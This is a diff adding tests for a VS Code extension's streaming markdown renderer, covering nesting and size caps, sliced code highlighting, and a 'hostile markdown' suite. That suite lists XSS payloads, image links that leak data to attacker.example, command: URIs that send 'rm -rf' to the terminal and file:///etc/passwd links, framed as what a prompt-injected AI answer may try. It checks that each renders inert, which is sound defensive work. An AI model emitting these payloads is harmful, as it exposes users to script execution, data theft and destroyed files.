@@ -1,7 +1,28 @@
+// StreamingMarkdown (src/webview/streamingMarkdown.ts): streamed == one-go, then the caps on
+// nesting and size, hostile markup, and sliced highlighting of big code blocks.
 import * as assert from 'node:assert/strict';
-import { idleQueueOf } from '../../../src/webview/codeBlock';
+import {
+  idleQueueOf,
+  codeTextOf,
+  PLAIN_SEGMENT_CHARS,
+  codeElementOf,
+  plainSegmentOffsets,
+  HIGHLIGHT_SLICE_CHARS,
+  sliceOffsets,
+} from '../../../src/webview/codeBlock';
 import { StreamingMarkdown } from '../../../src/webview/streamingMarkdown';
 import { newWindow, randomChunks, referenceHtml, seeded } from './jsdomEnv';
+import {
+  MAX_BLOCK_DEPTH,
+  MAX_BLOCK_NESTING,
+  MAX_INLINE_DEPTH,
+  MAX_LINE_CHARS,
+  MAX_LINE_PIPES,
+  hasLongLine,
+  isPathologicalMarkdown,
+} from '../../../src/webview/markdown';
+import { UserMessageElement } from '../../../src/webview/messageViews';
+import { IdleQueue, type IdleDeadlineLike, type IdleHost } from '../../../src/webview/frameScheduler';
 
 const win = newWindow();
 const doc = win.document;
@@ -295,5 +316,491 @@ describe('StreamingMarkdown', function () {
     r.append(' more');
     assert.equal(r.flush(), false);
     assert.equal(r.element.textContent, 'done');
+  });
+});
+
+// Issue 10 (hostile corpus: "no flush over 50 ms") and issue 9: block quotes and lists nested
+// deeper than MAX_BLOCK_DEPTH are not built as DOM; what is inside the deepest allowed container
+// is one plain block holding its text exactly as typed. Checked as what is built (container
+// depth, the plain block's exact text), never as time.
+describe('webview: block nesting is capped at MAX_BLOCK_DEPTH, text kept exactly', function () {
+  const doc = newWindow().document;
+  const CONTAINERS = new Set(['BLOCKQUOTE', 'UL', 'OL', 'LI']);
+
+  /** The most block containers (blockquote, ul, ol, li) any element of `root` sits in. */
+  function containerDepth(root: Element): number {
+    let max = 0;
+    // iterative: an unbounded tree must fail the assertion, not overflow the stack here
+    const stack: [Element, number][] = [[root, 0]];
+    while (stack.length) {
+      const [el, d] = stack.pop()!;
+      const depth = d + (CONTAINERS.has(el.tagName) ? 1 : 0);
+      if (depth > max) max = depth;
+      for (let c = el.firstElementChild; c; c = c.nextElementSibling) stack.push([c, depth]);
+    }
+    return max;
+  }
+
+  function deepTexts(root: Element): string[] {
+    return Array.from(root.querySelectorAll('.md-deep')).map((b) => codeTextOf(b));
+  }
+
+  /** One-go and streamed in seeded random chunks (flushing after each), colouring drained. */
+  function both(src: string, maxChunk: number): [string, Element][] {
+    const once = StreamingMarkdown.render(doc, src).element;
+    const r = new StreamingMarkdown(doc);
+    for (const piece of randomChunks(src, seeded(src.length), maxChunk)) {
+      r.append(piece);
+      r.flush();
+      assert.ok(containerDepth(r.element) <= MAX_BLOCK_DEPTH, `while streaming: container depth ${containerDepth(r.element)}`);
+    }
+    r.finish();
+    idleQueueOf(doc)!.drain();
+    assert.ok(r.element.innerHTML === once.innerHTML, 'streamed == one-go');
+    return [['one-go', once], ['streamed', r.element]];
+  }
+
+  const listLine = (i: number) => `${'  '.repeat(i)}- item${i}`;
+  /** The list level whose item content is the first thing at the cap (ul + li = two levels each). */
+  const LAST_LIST = MAX_BLOCK_DEPTH / 2 - 1;
+
+  // jsdom is slow and the machines are shared: a generous limit (no timing is asserted)
+  this.timeout(120_000);
+
+  it('block quotes x500 on one line: MAX_BLOCK_DEPTH quotes, then the rest as typed', () => {
+    const src = `${'> '.repeat(500)}deep quote\n\nafter`;
+    for (const [how, el] of both(src, 40)) {
+      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
+      assert.equal(el.querySelectorAll('blockquote').length, MAX_BLOCK_DEPTH, how);
+      assert.deepEqual(deepTexts(el), [`${'> '.repeat(500 - MAX_BLOCK_DEPTH)}deep quote`], how);
+      assert.equal(el.lastElementChild?.lastElementChild?.tagName, 'P', `${how}: the paragraph after it is markdown again`);
+      assert.equal(el.lastElementChild?.lastElementChild?.textContent, 'after', how);
+    }
+  });
+
+  it('lists x120: the first levels are lists, the rest one plain block with every line', () => {
+    const lines = Array.from({ length: 120 }, (_, i) => listLine(i));
+    const src = `${lines.join('\n')}\n\nafter`;
+    // item LAST_LIST's content and everything below it, relative to that item's indentation
+    const indent = 2 * (LAST_LIST + 1);
+    const expected = [`item${LAST_LIST}`, ...lines.slice(LAST_LIST + 1).map((l) => l.slice(indent))].join('\n');
+    for (const [how, el] of both(src, 200)) {
+      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
+      assert.equal(el.querySelectorAll('ul').length, LAST_LIST + 1, how);
+      assert.deepEqual(deepTexts(el), [expected], how);
+      assert.match(el.textContent ?? '', /after$/, how);
+    }
+  });
+
+  it('quotes and lists mixed, each line one level deeper: no element deeper than the cap, every word kept', () => {
+    // short enough (and few enough delimiters) to be parsed as markdown, not shown whole as plain text
+    const src = Array.from({ length: 40 }, (_, i) => `${'> '.repeat(Math.floor(i / 2))}${i % 2 ? '- ' : ''}word${i} text`).join('\n');
+    for (const [how, el] of both(src, 30)) {
+      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
+      assert.ok(deepTexts(el).length >= 1, `${how}: the levels below the cap are plain blocks`);
+      const shown = (el.textContent ?? '').match(/word\d+/g);
+      assert.deepEqual(shown?.filter((w, k, a) => a.indexOf(w) === k), Array.from({ length: 40 }, (_, i) => `word${i}`), `${how}: every word, in order`);
+    }
+  });
+
+  it('nesting up to the cap is markdown as before (no plain block)', () => {
+    const lines = Array.from({ length: LAST_LIST }, (_, i) => listLine(i));
+    const quotes = `${'> '.repeat(MAX_BLOCK_DEPTH - 1)}one quote less than the cap`;
+    for (const [how, el] of [...both(lines.join('\n'), 20), ...both(quotes, 20)]) {
+      assert.deepEqual(deepTexts(el), [], how);
+    }
+    assert.equal(StreamingMarkdown.render(doc, quotes).element.querySelectorAll('blockquote').length, MAX_BLOCK_DEPTH - 1);
+    assert.equal(StreamingMarkdown.render(doc, lines.join('\n')).element.querySelectorAll('ul').length, LAST_LIST);
+  });
+});
+
+// Issue 10 item 4: deeply nested markup must neither throw (stack overflow in jsdom) nor build
+// a DOM thousands of elements deep, and no text may be lost. These check bounded work (DOM
+// depth, parser calls, fallbacks), never time.
+describe('webview: deeply nested markup (issue 10 #4)', () => {
+  const doc = newWindow().document;
+
+  function depthOf(root: Element): number {
+    let max = 0;
+    // iterative: an unbounded tree must fail the assertion, not overflow the stack here
+    const stack: [Element, number][] = [[root, 0]];
+    while (stack.length) {
+      const [el, d] = stack.pop()!;
+      if (d > max) max = d;
+      for (let c = el.firstElementChild; c; c = c.nextElementSibling) stack.push([c, d + 1]);
+    }
+    return max;
+  }
+
+  /** The visible characters, whitespace and the code toolbar's labels left out. */
+  function visibleText(root: Element): string {
+    const clone = root.cloneNode(true) as Element;
+    for (const t of Array.from(clone.querySelectorAll('.code-toolbar'))) t.remove();
+    return (clone.textContent ?? '').replace(/\s+/g, '');
+  }
+
+  const CASES: [string, string][] = [
+    ['nested emphasis x2000', '*a '.repeat(2000) + 'x' + ' b*'.repeat(2000)],
+    ['nested strong x2000', '**a '.repeat(2000) + 'x' + ' b**'.repeat(2000)],
+    ['nested strike+emphasis x1500', '~~*a '.repeat(1500) + 'x' + ' b*~~'.repeat(1500)],
+    ['nested emphasis x300 (short, below the plain-text size)', '_a '.repeat(300) + 'x' + ' b_'.repeat(300)],
+    ['nested links x3000', '['.repeat(3000) + 'x' + '](https://example.com)'.repeat(3000)],
+    ['nested block quotes x500', '>'.repeat(500) + ' deep text'],
+    ['nested lists x120', Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- item${i}`).join('\n')],
+    ['quotes and emphasis x200', Array.from({ length: 200 }, (_, i) => `${'> '.repeat(i)}*q${i}*`).join('\n')],
+  ];
+
+  for (const [name, src] of CASES) {
+    it(`${name}: renders at once without throwing, bounded depth, no text lost`, () => {
+      const r = StreamingMarkdown.render(doc, src);
+      assert.ok(depthOf(r.element) <= MAX_BLOCK_NESTING + MAX_INLINE_DEPTH + 8, `DOM depth ${depthOf(r.element)}`);
+      const expected = src.replace(/[*_~>[\]()\-\s]|https:\/\/example\.com/g, '');
+      const shown = visibleText(r.element).replace(/[*_~>[\]()-]|https:\/\/example\.com/g, '');
+      assert.equal(shown, expected, 'every word of the text is shown');
+    });
+
+    it(`${name}: streamed in random chunks: bounded depth at every flush, no text lost`, () => {
+      const rnd = seeded(name.length * 7919);
+      const r = new StreamingMarkdown(doc);
+      for (const piece of randomChunks(src, rnd, 700)) {
+        r.append(piece);
+        r.flush();
+        assert.ok(depthOf(r.element) <= MAX_BLOCK_NESTING + MAX_INLINE_DEPTH + 8);
+      }
+      r.finish();
+      // (where a streamed text falls back to plain text may differ from a one-go render: the
+      // fallback is decided per unfinished block, and blocks are cut where lines complete)
+      const expected = src.replace(/[*_~>[\]()\-\s]|https:\/\/example\.com/g, '');
+      assert.equal(visibleText(r.element).replace(/[*_~>[\]()-]|https:\/\/example\.com/g, ''), expected);
+    });
+  }
+
+  it('inline markup deeper than the cap is shown as the typed characters', () => {
+    const n = MAX_INLINE_DEPTH + 10;
+    const r = StreamingMarkdown.render(doc, '*a '.repeat(n) + 'x' + ' b*'.repeat(n));
+    assert.equal(r.element.querySelectorAll('em').length, MAX_INLINE_DEPTH);
+    assert.equal(r.stats.plainFallbacks, 0, 'short text is still markdown');
+    assert.ok((r.element.textContent ?? '').includes('*a *a'), 'the delimiters beyond the cap stay visible');
+  });
+
+  it('a long pathological block is not handed to markdown-it at all', () => {
+    const r = StreamingMarkdown.render(doc, '*a '.repeat(20_000) + 'x' + ' b*'.repeat(20_000));
+    assert.equal(r.stats.parses, 0);
+    assert.equal(r.stats.plainFallbacks, 1);
+    assert.ok(r.element.querySelector('.code-block.md-plain'));
+  });
+
+  it('block nesting beyond the limit keeps the text (markdown-it alone would drop it)', () => {
+    const r = StreamingMarkdown.render(doc, `${'>'.repeat(MAX_BLOCK_NESTING + 20)} the end\n\nafter`);
+    assert.match(r.element.textContent ?? '', /the end/);
+    assert.match(r.element.textContent ?? '', /after/);
+  });
+
+  it('ordinary markdown is untouched by the caps', () => {
+    const r = StreamingMarkdown.render(doc, '> quote with ***bold italic*** and [a link](https://example.com)\n\n- a\n  - b\n    - c');
+    assert.equal(r.stats.plainFallbacks, 0);
+    assert.ok(r.element.querySelector('blockquote em strong, blockquote strong em'));
+    assert.equal(r.element.querySelectorAll('ul ul ul').length, 1);
+  });
+});
+
+describe('hostile markdown', function () {
+  const doc = newWindow().document;
+
+  /** What a prompt-injected answer may try. None of it may become live markup. */
+  const HOSTILE: string[] = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    'inline <img src=x onerror="alert(1)"> in a paragraph',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](jav&#x61;script:alert(1))',
+    '[x]( javascript:alert(1) )',
+    '<javascript:alert(1)>',
+    '![](https://attacker/?q=secret)',
+    '![diagram](https://attacker.example/leak.png?data=API_KEY "title")',
+    '![x](data:image/png;base64,iVBORw0KGgo=)',
+    '<iframe src="https://attacker.example"></iframe>',
+    '<a href="command:workbench.action.terminal.new">open</a>',
+    '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%22%7D)',
+    '<command:workbench.action.reloadWindow>',
+    '[settings](vscode://settings/security)',
+    '[passwd](file:///etc/passwd)',
+    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '<object data="x"></object><embed src="x"><form action="https://a"><input name=q></form>',
+    '<style>body{display:none}</style>',
+    '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
+    '<svg onload=alert(1)><circle r=5 /></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
+    '- [x](command:evil)\n- ![](https://attacker/?q=1)\n  > <script>alert(1)</script>',
+    '<a href="https://ok.example" onclick="alert(1)" style="color:red">styled</a>',
+    '[ok](https://ok.example "t\\" onmouseover=\\"alert(1)")',
+  ];
+
+  const FORBIDDEN_TAGS = ['script', 'img', 'iframe', 'object', 'embed', 'form', 'input', 'style', 'svg', 'math', 'link', 'meta', 'base', 'video', 'audio', 'source'];
+  const BAD_SCHEME = /^\s*(javascript|command|vscode|file|data|vbscript):/i;
+
+  function assertInert(root: Element, label: string): void {
+    for (const tag of FORBIDDEN_TAGS) {
+      // the panel's own icons (code block toolbar) are the only SVG allowed
+      const found = Array.from(root.querySelectorAll(tag)).filter((el) => !(tag === 'svg' && el.closest('.code-toolbar') && el.getAttribute('aria-hidden') === 'true'));
+      assert.equal(found.length, 0, `${label}: <${tag}> rendered`);
+    }
+    for (const el of Array.from(root.querySelectorAll('*'))) {
+      for (const attr of Array.from(el.attributes)) {
+        assert.ok(!/^on/i.test(attr.name), `${label}: ${attr.name} attribute on <${el.tagName}>`);
+        assert.notEqual(attr.name, 'style', `${label}: style attribute on <${el.tagName}>`);
+        assert.notEqual(attr.name, 'src', `${label}: src attribute on <${el.tagName}>`);
+        if (attr.name === 'href' || attr.name === 'xlink:href' || attr.name === 'action' || attr.name === 'formaction') {
+          assert.ok(!BAD_SCHEME.test(attr.value), `${label}: ${attr.name}="${attr.value}"`);
+          assert.match(attr.value, /^https?:\/\//i, `${label}: only web links may stay links`);
+        }
+      }
+    }
+  }
+
+  // jsdom is slow and the test machines are shared: a generous limit (no timing is asserted)
+  this.timeout(60_000);
+
+  for (const input of HOSTILE) {
+    it(`renders inert: ${JSON.stringify(input).slice(0, 70)}`, () => {
+      const once = StreamingMarkdown.render(doc, input).element;
+      assertInert(once, 'one-go');
+      const rnd = seeded(input.length);
+      const r = new StreamingMarkdown(doc);
+      for (const c of randomChunks(input, rnd, 4)) {
+        r.append(c);
+        r.flush();
+        assertInert(r.element, 'while streaming');
+      }
+      r.finish();
+      assertInert(r.element, 'streamed');
+      idleQueueOf(doc)!.drain(); // blocks closed while streaming are coloured on idle time
+      assertInert(r.element, 'streamed and coloured');
+      assert.equal(r.element.innerHTML, once.innerHTML);
+    });
+  }
+
+  it('shows a markdown image as link text instead of loading it', () => {
+    const el = StreamingMarkdown.render(doc, 'see ![chart](https://attacker/?q=secret) here').element;
+    const link = el.querySelector('a.md-image-link');
+    assert.ok(link, 'image became a link-like element');
+    assert.equal(link.getAttribute('href'), 'https://attacker/?q=secret');
+    assert.equal(link.textContent, '🖼 chart (https://attacker/?q=secret)');
+  });
+
+  it('keeps the text of links it refuses, without a link', () => {
+    const el = StreamingMarkdown.render(doc, '[open terminal](command:workbench.action.terminal.new) and [home](https://example.com)').element;
+    const anchors = Array.from(el.querySelectorAll('a'));
+    assert.deepEqual(anchors.map((a) => a.getAttribute('href')), ['https://example.com']);
+    assert.match(el.textContent ?? '', /open terminal/);
+    assert.ok(el.querySelector('span.md-link-disabled'));
+  });
+
+  it('renders raw HTML as visible text', () => {
+    const el = StreamingMarkdown.render(doc, 'a <b>bold</b> <script>alert(1)</script> tag').element;
+    assert.equal(el.querySelector('b'), null);
+    assert.match(el.textContent ?? '', /<b>bold<\/b> <script>alert\(1\)<\/script>/);
+  });
+});
+
+// Issue 10 suite 1: blocks whose formatting costs the panel hundreds of milliseconds per flush
+// (one 200 KB line, a 3,000-column table) are shown as plain text instead, and no character is
+// lost; plain text and the raw preview are built in bounded segments. Checked as what is built
+// (a plain block holding the exact source, segment sizes), never as time.
+describe('webview: size caps show oversized blocks as plain text, text exact', function () {
+  const doc = newWindow().document;
+  const words = (n: number) => Array.from({ length: n }, (_, i) => `w${i}`).join(' ');
+  const table = (cols: number) => `|${' a |'.repeat(cols)}\n|${'---|'.repeat(cols)}\n|${' b |'.repeat(cols)}`;
+
+  const CASES: [string, string][] = [
+    ['a 3,000-column table', table(3000)],
+    ['a 200 KB line of words', words(30_000)],
+    ['a 100 KB word', 'a'.repeat(100_000)],
+    ['a long line between paragraphs', `first paragraph\n\n${'x y '.repeat(MAX_LINE_CHARS / 3)}\n\nlast paragraph`],
+  ];
+
+  function plainTexts(root: Element): string[] {
+    return Array.from(root.querySelectorAll('.md-plain')).map((b) => codeTextOf(b));
+  }
+
+  this.timeout(120_000);
+
+  it('the caps trigger on the pipes per line and the length of a line only', () => {
+    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 2)}`), false, 'a line of MAX_LINE_CHARS characters stays a paragraph');
+    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 2)}y`), true, 'one character more is plain text');
+    assert.equal(hasLongLine(`short\n${'x '.repeat(MAX_LINE_CHARS / 2)}y\nshort`), true);
+    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 4)}\n`.repeat(8)), false, 'many long lines, each under the cap, are fine');
+    assert.equal(isPathologicalMarkdown(`${words(30_000)} end`), false, 'a long line of words is not pathological markup (only too long)');
+    assert.equal(isPathologicalMarkdown(table(MAX_LINE_PIPES + 1)), true);
+    assert.equal(isPathologicalMarkdown(table(40)), false, 'a wide but ordinary table is still a table');
+    assert.equal(isPathologicalMarkdown(`${'line of prose\n'.repeat(5000)}`), false, 'many short lines are fine');
+  });
+
+  for (const [name, text] of CASES) {
+    it(`${name}: one-go and streamed, shown as a plain block with every character`, () => {
+      const once = StreamingMarkdown.render(doc, text).element;
+      const rnd = seeded(text.length);
+      const r = new StreamingMarkdown(doc);
+      for (const c of randomChunks(text, rnd, 3000)) {
+        r.append(c);
+        r.flush();
+      }
+      r.finish();
+      idleQueueOf(doc)!.drain();
+      const expected = text.split('\n\n').find((p) => p.length > 1000)!;
+      for (const [how, el] of [['one-go', once], ['streamed', r.element]] as const) {
+        const plain = plainTexts(el);
+        assert.equal(plain.length, 1, `${how}: one plain block`);
+        assert.equal(el.querySelector('table'), null, `${how}: no table element built`);
+        assert.ok(plain[0] === expected, `${how}: exact text (${plain[0].length} of ${expected.length} characters)`);
+        const segments = Array.from(codeElementOf(el.querySelector('.md-plain')!)!.children);
+        assert.ok(segments.length > 1 && segments.every((s) => s.className === 'code-segment' && (s.textContent ?? '').length <= PLAIN_SEGMENT_CHARS), `${how}: in segments of at most ${PLAIN_SEGMENT_CHARS} characters`);
+        if (text !== expected) assert.deepEqual(Array.from(el.querySelectorAll('p')).map((p) => p.textContent), ['first paragraph', 'last paragraph'], `${how}: the other blocks stay markdown`);
+      }
+      assert.ok(r.element.innerHTML === once.innerHTML, 'streamed == one-go');
+    });
+  }
+
+  it('plain segments end at a line end when one is in their second half, never inside a surrogate pair', () => {
+    const text = `${'short line\n'.repeat(500)}${'😀'.repeat(3000)}`;
+    const cuts = plainSegmentOffsets(text);
+    assert.equal(cuts[0], 0);
+    assert.equal(cuts[cuts.length - 1], text.length);
+    for (let i = 1; i + 1 < cuts.length; i++) {
+      assert.ok(cuts[i] - cuts[i - 1] <= PLAIN_SEGMENT_CHARS && cuts[i] > cuts[i - 1]);
+      if (cuts[i] <= 5500) assert.equal(text[cuts[i] - 1], '\n', `cut ${i} at a line end`);
+      const c = text.charCodeAt(cuts[i] - 1);
+      assert.ok(!(c >= 0xd800 && c <= 0xdbff), `cut ${i} splits a surrogate pair`);
+    }
+  });
+
+  it('the raw preview of a large unfinished block grows in bounded segments, and nothing of it is left after finish', () => {
+    const text = 'z '.repeat(60_000);
+    const r = new StreamingMarkdown(doc);
+    let sawRaw = false;
+    for (const c of randomChunks(text, seeded(7), 500)) {
+      r.append(c);
+      r.flush();
+      const raw = r.element.querySelector('.md-raw');
+      if (!raw) continue;
+      sawRaw = true;
+      for (const seg of Array.from(raw.children)) assert.ok(seg.className === 'md-raw-segment' && (seg.textContent ?? '').length <= PLAIN_SEGMENT_CHARS);
+      assert.equal(raw.childNodes.length, raw.children.length, 'only segments directly in the preview');
+    }
+    assert.ok(sawRaw && r.stats.rawAppends > 0);
+    r.finish();
+    assert.equal(r.element.querySelector('.md-raw'), null);
+    assert.equal(plainTexts(r.element).join(''), text);
+  });
+
+  it("the user's own long message is kept exactly, in bounded segments; a short one is one text", () => {
+    const user = (text: string) => new UserMessageElement(doc, { id: 'u', role: 'user', text, attachments: [], createdAt: 0 }).element.querySelector('.message-text')!;
+    const short = user('hello\n  world');
+    assert.equal(short.children.length, 0);
+    assert.equal(short.textContent, 'hello\n  world');
+    for (const [, text] of CASES) {
+      const el = user(text);
+      assert.equal(el.textContent, text, 'the exact text');
+      assert.ok(el.children.length > 1, 'segments');
+      for (const seg of Array.from(el.children)) assert.ok(seg.className === 'text-segment' && (seg.textContent ?? '').length <= PLAIN_SEGMENT_CHARS);
+      assert.equal(el.childNodes.length, el.children.length, 'only segments directly in the text');
+    }
+  });
+});
+
+// Issue 9: a big closed code block is highlighted in slices on idle time, never in one task.
+// Checked as bounded work per idle step (characters handed to highlight.js), never as time.
+describe('webview: big code blocks are highlighted in slices on idle time', () => {
+  function bigTs(chars: number): string {
+    const lines: string[] = [];
+    let n = 0;
+    for (let i = 0; n < chars; i++) {
+      const l = i % 40 === 39 ? '' : `export const value${i} = compute(${i}, "text", { flag: ${i % 2 === 0} }); // line ${i}`;
+      lines.push(l);
+      n += l.length + 1;
+    }
+    return lines.join('\n');
+  }
+
+  class ManualIdle implements IdleHost {
+    private cb: ((d: IdleDeadlineLike) => void) | null = null;
+    setTimeout = () => 0;
+    clearTimeout = () => undefined;
+    requestIdleCallback = (cb: (d: IdleDeadlineLike) => void) => {
+      this.cb = cb;
+      return 1;
+    };
+    cancelIdleCallback = () => void (this.cb = null);
+    get armed(): boolean {
+      return this.cb !== null;
+    }
+    /** an idle period with room for exactly one step */
+    step(): void {
+      const cb = this.cb!;
+      this.cb = null;
+      cb({ timeRemaining: () => 0 });
+    }
+  }
+
+  it('slices cover the text exactly, at line ends, each about the slice size', () => {
+    const text = bigTs(100_000);
+    const cuts = sliceOffsets(text);
+    assert.equal(cuts[0], 0);
+    assert.equal(cuts[cuts.length - 1], text.length);
+    for (let i = 1; i < cuts.length - 1; i++) assert.equal(text[cuts[i] - 1], '\n');
+    for (let i = 0; i + 1 < cuts.length; i++) assert.ok(cuts[i + 1] - cuts[i] <= HIGHLIGHT_SLICE_CHARS + 200);
+  });
+
+  it('a closed 100 KB block: no colouring at close, one slice coloured per idle step, in order, same text throughout', function () {
+    this.timeout(60_000);
+    const win = newWindow();
+    const doc = win.document;
+    const host = new ManualIdle();
+    const text = bigTs(100_000);
+    // the renderer uses the window's queue; give the window our manual idle callbacks
+    Object.assign(win, { requestIdleCallback: host.requestIdleCallback, cancelIdleCallback: host.cancelIdleCallback });
+    const r = new StreamingMarkdown(doc);
+    doc.body.appendChild(r.element);
+    r.append('```ts\n' + text + '\n```\n');
+    r.finish();
+    const block = r.element.querySelector('.code-block')!;
+    const slices = block.querySelectorAll('code > .code-slice');
+    assert.ok(slices.length >= 100_000 / HIGHLIGHT_SLICE_CHARS, `slices: ${slices.length}`);
+    assert.equal(block.querySelectorAll('[class^="hljs-"]').length, 0, 'nothing coloured synchronously at close');
+    assert.equal(codeTextOf(block), text);
+    let steps = 0;
+    while (host.armed) {
+      host.step();
+      steps++;
+      const done = Array.from(slices).map((s) => !!s.querySelector('[class^="hljs-"]'));
+      assert.deepEqual(done, done.map((_, k) => k < steps), `after step ${steps}: exactly the first ${steps} slices coloured`);
+      if (steps % 8 === 0) assert.equal(codeTextOf(block), text, 'Copy reads the same code at every step');
+    }
+    assert.equal(steps, slices.length, 'one slice per idle step');
+    for (const [i, slice] of Array.from(slices).entries()) assert.ok(slice.querySelector('[class^="hljs-"]'), `slice ${i} coloured`);
+    assert.equal(codeTextOf(block), text);
+  });
+
+  it('small blocks are still highlighted at once', () => {
+    const doc = newWindow().document;
+    const r = StreamingMarkdown.render(doc, '```ts\nconst x = 1;\n```\n');
+    assert.ok(r.element.querySelector('.hljs-keyword'));
+  });
+
+  it('IdleQueue runs at least one step per idle period and re-arms while work is left', () => {
+    const host = new ManualIdle();
+    const q = new IdleQueue(host);
+    let n = 0;
+    q.add(() => ++n < 3);
+    host.step();
+    assert.equal(n, 1);
+    host.step();
+    host.step();
+    assert.equal(n, 3);
+    assert.equal(host.armed, false);
   });
 });
